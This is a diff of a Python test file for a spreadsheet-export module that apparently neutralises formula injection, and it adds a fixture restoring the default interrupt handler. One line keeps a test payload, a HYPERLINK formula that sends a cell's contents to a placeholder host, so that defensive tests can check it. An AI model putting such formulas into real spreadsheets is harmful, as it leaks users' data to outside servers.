@@ -28,6 +28,17 @@ from pmq.errors import InputError, OutputError, OutputNotice
 from pmq.export import (MARKER, clean_stale, neutralise, neutralise_csv, safe_text, to_csv, to_excel,
                         write_atomically, written_by_pmq)
 
+
+@pytest.fixture(autouse=True)
+def _interactive_interrupts():
+    """A test run started in the background by a script (`cmd &`) ignores SIGINT, as POSIX shells
+    ask, and so would its subprocesses: give these tests the interactive default."""
+    old = signal.getsignal(signal.SIGINT)
+    signal.signal(signal.SIGINT, signal.default_int_handler)
+    yield
+    signal.signal(signal.SIGINT, old)
+
+
 TEMPLATES = Path(__file__).resolve().parents[1] / "pmq" / "data" / "templates"
 HYPERLINK = '=HYPERLINK("http://x?leak="&A1,"clic")'
 #: Labels that a spreadsheet would evaluate as formulas (or as an error literal).
